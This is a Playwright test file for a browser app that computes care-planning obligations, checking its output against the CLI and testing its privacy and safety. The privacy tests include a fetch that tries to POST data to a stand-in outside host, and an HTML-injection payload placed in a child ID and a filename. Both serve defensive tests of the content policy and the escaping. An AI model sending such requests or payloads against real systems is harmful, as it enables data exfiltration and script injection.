"""The in-browser app in a real Chromium (Debian's, driven by Playwright), served on loopback.

Checked against the CLI on the same files: the summary numbers, the worklist, one
explanation and the downloaded CSVs. Checked for privacy: every request goes to the page's
origin (the worker's included), a fetch to another origin inside the worker is refused by the
policy, nothing is stored, and text from the files is never parsed as HTML.

Screenshots go to ``LACPLAN_SCREENSHOTS`` (a directory) when it is set: docs/web.md's pictures
are made this way.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.web.conftest import CHROMIUM_FLAGS, need

if os.environ.get("CI") == "true":
    import playwright.sync_api as sync_api  # CI installs it (the test extra): never skipped
else:
    sync_api = pytest.importorskip("playwright.sync_api")

ROOT = Path(__file__).resolve().parents[2]
D2I = ROOT / "tests" / "data" / "ssda903-samples" / "d2i-validator-fake"
D2I_FILES = sorted(p for p in D2I.iterdir() if p.suffix == ".csv")
COHORT = ROOT / "src" / "lacplan" / "data" / "demo_cohort.jsonl"
ONE_CHILD = ROOT / "docs" / "examples" / "case.json"
LOAD_TIMEOUT = 120_000
RUN_TIMEOUT = 300_000


def cli(*args: str) -> str:
    done = subprocess.run(
        [sys.executable, "-m", "lacplan", *args], capture_output=True, text=True, check=False
    )
    assert done.returncode in (0, 1), done.stderr
    return done.stdout


def shoot(page: Any, name: str) -> None:
    directory = os.environ.get("LACPLAN_SCREENSHOTS")
    if directory:
        Path(directory).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(Path(directory) / f"{name}.png"), full_page=True)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    chromium = os.environ.get("LACPLAN_CHROMIUM") or need("chromium")
    with sync_api.sync_playwright() as p:
        launched = p.chromium.launch(executable_path=chromium, args=CHROMIUM_FLAGS)
        yield launched
        launched.close()


class Visit:
    """One page, with every request and console message it (and its worker) made."""

    def __init__(self, browser: Any, origin: str) -> None:
        self.context = browser.new_context(accept_downloads=True)
        self.page = self.context.new_page()
        self.origin = origin
        self.requests: list[str] = []
        self.console: list[str] = []
        self.errors: list[str] = []
        self.context.on("request", lambda r: self.requests.append(r.url))
        self.page.on("console", lambda m: self.console.append(m.text))
        self.page.on("pageerror", lambda e: self.errors.append(str(e)))
        self.page.goto(origin + "/")
        self.page.wait_for_selector("body[data-state=ready]", timeout=LOAD_TIMEOUT)

    def run(self, files: list[Path], as_of: str, *, rules: str = "england") -> None:
        page = self.page
        page.fill("#as-of", as_of)
        if "+" in rules:
            for overlay in rules.split("+")[1:]:
                page.check(f"input[name=overlay][value={overlay}]")
        page.evaluate("document.body.dataset.state = 'ready'")
        page.set_input_files("#files", [str(f) for f in files])
        page.wait_for_selector("body[data-state=done], body[data-state=idle]", timeout=RUN_TIMEOUT)
        assert page.get_attribute("body", "data-state") == "done", page.text_content("#message")

    def table(self, selector: str) -> list[dict[str, str]]:
        rows: list[dict[str, str]] = self.page.evaluate(
            """(sel) => {
                const t = document.querySelector(sel + " table");
                if (!t) return [];
                const cols = [...t.querySelectorAll("thead th")].map((th) => th.textContent);
                return [...t.querySelectorAll("tbody tr")].map((tr) =>
                    Object.fromEntries([...tr.children].map((td, i) => [cols[i], td.textContent])));
            }""",
            selector,
        )
        return rows

    def download(self, kind: str) -> str:
        with self.page.expect_download() as info:
            self.page.click(f"button[data-download={kind}][data-format=csv]")
        return Path(info.value.path()).read_text(encoding="utf-8")

    def close(self) -> None:
        self.context.close()


@pytest.fixture
def visit(browser: Any, origin: str) -> Iterator[Visit]:
    v = Visit(browser, origin)
    yield v
    assert not v.errors, v.errors
    v.close()


def cell(column: str, value: object) -> str:
    """A value as the page shows it (view.js cellText)."""
    if value is None:
        return ""
    if column == "rate" and isinstance(value, float):
        return f"{value * 100:.1f}%"
    return str(value)


def expected_rows(doc: list[dict[str, Any]]) -> list[dict[str, str]]:
    return [{k: cell(k, v) for k, v in row.items()} for row in doc]


# ---------------------------------------------------------------- the 903 return
def test_a_903_return_gives_the_clis_numbers_and_csvs(visit: Visit) -> None:
    visit.run(D2I_FILES, "2024-03-31")
    shoot(visit.page, "web-903-summary")
    paths = [str(p) for p in D2I_FILES]
    options = ["--as-of", "2024-03-31", "--input-format", "auto"]
    summary = json.loads(cli("summary", *paths, *options, "--format", "json"))
    assert visit.table("#summary") == expected_rows(summary)
    upcoming = json.loads(cli("upcoming", *paths, *options, "--format", "json"))
    assert visit.table("#worklist") == expected_rows(upcoming)
    report = json.loads(cli("evaluate", *paths, *options, "--format", "json"))
    counts = visit.page.text_content("#counts") or ""
    assert f"{len(report['children'])} children" in counts
    assert visit.download("obligations") == cli(
        "evaluate", *paths, *options, "--format", "csv", "--excel-safe"
    )
    assert visit.download("summary") == cli(
        "summary", *paths, *options, "--format", "csv", "--excel-safe"
    )
    assert visit.download("worklist") == cli(
        "upcoming", *paths, *options, "--format", "csv", "--excel-safe"
    )
    # openpyxl loads after the page is ready: the xlsx buttons appear, and give a workbook
    # whose obligations sheet holds the CSV's rows.
    visit.page.wait_for_selector(
        "button[data-download=obligations][data-format=xlsx]:not([hidden])"
    )
    with visit.page.expect_download() as info:
        visit.page.click("button[data-download=obligations][data-format=xlsx]")
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(Path(info.value.path()).read_bytes()))
    rows = sum(1 for _ in book["obligations"].iter_rows()) - 1
    assert rows == sum(len(c["obligations"]) for c in report["children"]) > 0


def test_the_explanation_of_a_date_is_the_clis(visit: Visit) -> None:
    visit.run(D2I_FILES, "2024-03-31")
    report = json.loads(
        cli(
            "evaluate",
            *map(str, D2I_FILES),
            "--as-of",
            "2024-03-31",
            "--input-format",
            "auto",
            "--format",
            "json",
        )
    )
    child = next(c for c in report["children"] if any(o["due"] for o in c["obligations"]))
    visit.page.click(f"#children button:text-is('{child['child_id']}')")
    visit.page.wait_for_selector("#child:not([hidden]) svg.timeline")
    first = child["obligations"][0]
    visit.page.click("#child-table tbody tr:first-child button")
    visit.page.wait_for_selector("#explanation:not([hidden])")
    assert visit.page.text_content("#explanation-text") == first["explanation"]
    marks = visit.page.locator("#child-timeline circle.mark").count()
    assert marks == sum(1 for o in child["obligations"] if o["due"])
    shoot(visit.page, "web-903-child")


# ---------------------------------------------------------------- a JSON cohort, dropped
def drop(visit: Visit, path: Path) -> None:
    """Drop ``path`` on the drop zone, as a user dragging a file does."""
    data = path.read_text(encoding="utf-8")
    handle = visit.page.evaluate_handle(
        """([name, text]) => {
            const dt = new DataTransfer();
            dt.items.add(new File([text], name, { type: "application/json" }));
            return dt;
        }""",
        [path.name, data],
    )
    visit.page.evaluate("document.body.dataset.state = 'ready'")
    visit.page.dispatch_event("#drop", "drop", {"dataTransfer": handle})
    visit.page.wait_for_selector(
        "body[data-state=done], body[data-state=idle]", timeout=RUN_TIMEOUT
    )


def test_a_dropped_json_cohort_gives_the_clis_numbers(visit: Visit) -> None:
    visit.page.fill("#as-of", "2024-06-03")
    drop(visit, COHORT)
    assert visit.page.get_attribute("body", "data-state") == "done"
    shoot(visit.page, "web-cohort")
    options = [str(COHORT), "--as-of", "2024-06-03"]
    summary = json.loads(cli("summary", *options, "--format", "json"))
    assert visit.table("#summary") == expected_rows(summary)
    upcoming = json.loads(cli("upcoming", *options, "--format", "json"))
    assert visit.table("#worklist")[:500] == expected_rows(upcoming)[:500]
    assert visit.download("obligations") == cli(
        "evaluate", *options, "--format", "csv", "--excel-safe"
    )


def test_one_child_is_shown_at_once(visit: Visit) -> None:
    visit.run([ONE_CHILD], "2024-06-03", rules="england+ifa")
    assert visit.page.is_visible("#child svg.timeline")
    report = json.loads(
        cli(
            "evaluate",
            str(ONE_CHILD),
            "--as-of",
            "2024-06-03",
            "--rules",
            "england+ifa",
            "--format",
            "json",
        )
    )
    rows = visit.table("#child-table")
    assert [(r["rule"], r["due"], r["status"]) for r in rows] == [
        (o["rule"], o["due"] or "", o["status"]) for o in report["children"][0]["obligations"]
    ]
    shoot(visit.page, "web-one-child")


# ---------------------------------------------------------------- privacy and safety
def test_nothing_leaves_the_origin_and_nothing_is_stored(visit: Visit) -> None:
    visit.run(D2I_FILES, "2024-03-31")
    for url in visit.requests:
        parts = urlsplit(url)
        assert parts.scheme in ("http", "blob", "data"), url
        if parts.scheme == "http":
            assert f"{parts.scheme}://{parts.netloc}" == visit.origin, url
        if parts.scheme == "blob":
            assert url.startswith("blob:" + visit.origin + "/"), url
    # The worker loaded the runtime: its requests are among those seen.
    assert any(u.endswith("/pyodide/pyodide.asm.wasm") for u in visit.requests)
    assert len(visit.page.workers) == 1
    worker = visit.page.workers[0]
    assert worker.url.startswith("blob:")
    # The policy (inherited by the blob: worker) refuses it: a violation event, then a failure.
    probe = """new Promise((resolve) => {
        self.addEventListener("securitypolicyviolation",
            (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
        fetch("http://192.0.2.1/collect", { method: "POST", body: "x" })
            .then(() => resolve("sent"), () => setTimeout(() => resolve("failed"), 1000));
    })"""
    assert worker.evaluate(probe) == "connect-src http://192.0.2.1/collect"
    assert visit.page.evaluate(probe.replace("self.", "document.")) == (
        "connect-src http://192.0.2.1/collect"
    )
    assert not any("192.0.2.1" in u for u in visit.requests)
    stored = visit.page.evaluate(
        """async () => ({
            local: localStorage.length,
            session: sessionStorage.length,
            idb: (await indexedDB.databases()).length,
            caches: (await caches.keys()).length,
            cookies: document.cookie,
        })"""
    )
    assert stored == {"local": 0, "session": 0, "idb": 0, "caches": 0, "cookies": ""}
    policy = visit.page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content")
    from lacplan.web import CONTENT_SECURITY_POLICY

    assert policy == CONTENT_SECURITY_POLICY


def test_text_from_the_files_is_never_html(visit: Visit, tmp_path: Path) -> None:
    case = json.loads(ONE_CHILD.read_text(encoding="utf-8"))
    case["child_id"] = "<img src=x id=pwned>"
    hostile = tmp_path / "<b>hostile<i>.json"
    hostile.write_text(json.dumps(case), encoding="utf-8")
    visit.run([hostile], "2024-06-03")
    assert visit.page.locator("#pwned").count() == 0
    assert visit.page.locator("#results b, #load b, #load i").count() == 0
    assert "<img src=x id=pwned>" in (visit.page.text_content("#child-title") or "")
    assert "<b>hostile<i>.json" in (visit.page.text_content("#chosen") or "")


def test_input_too_large_is_a_message_not_a_crash(visit: Visit, tmp_path: Path) -> None:
    big = tmp_path / "huge.jsonl"
    with big.open("wb") as fh:  # sparse: its size is all the page looks at
        fh.truncate(301 * 1024 * 1024)
    visit.page.fill("#as-of", "2024-06-03")
    visit.page.set_input_files("#files", [str(big)])
    visit.page.wait_for_selector("#message:not([hidden])")
    assert "more than this page evaluates" in (visit.page.text_content("#message") or "")
    # The page still works afterwards.
    visit.run([ONE_CHILD], "2024-06-03")


def test_a_rejected_record_is_listed_with_its_error(visit: Visit, tmp_path: Path) -> None:
    good = json.loads(ONE_CHILD.read_text(encoding="utf-8"))
    bad = {**good, "child_id": "BAD1", "date_of_birth": "2010-02-30"}
    path = tmp_path / "two.jsonl"
    path.write_text(json.dumps(good) + "\n" + json.dumps(bad) + "\n", encoding="utf-8")
    visit.run([path], "2024-06-03")
    errors = visit.table("#errors")
    assert errors and errors[0]["child_id"] == "BAD1"
    assert errors[0]["field"] == "date_of_birth"
    assert "2010-02-30" not in json.dumps(errors)
    shoot(visit.page, "web-rejected")


def test_a_rule_file_among_the_files_is_stacked(visit: Visit) -> None:
    rule_file = ROOT / "docs" / "examples" / "my-council.toml"
    visit.run([ONE_CHILD, rule_file], "2024-06-03")
    assert "rules england+my-council" in (visit.page.text_content("#counts") or "")
    expected = cli(
        "summary", str(ONE_CHILD), "--as-of", "2024-06-03", "--overlay", str(rule_file),
        "--format", "csv", "--excel-safe",
    )  # fmt: skip
    assert visit.download("summary") == expected
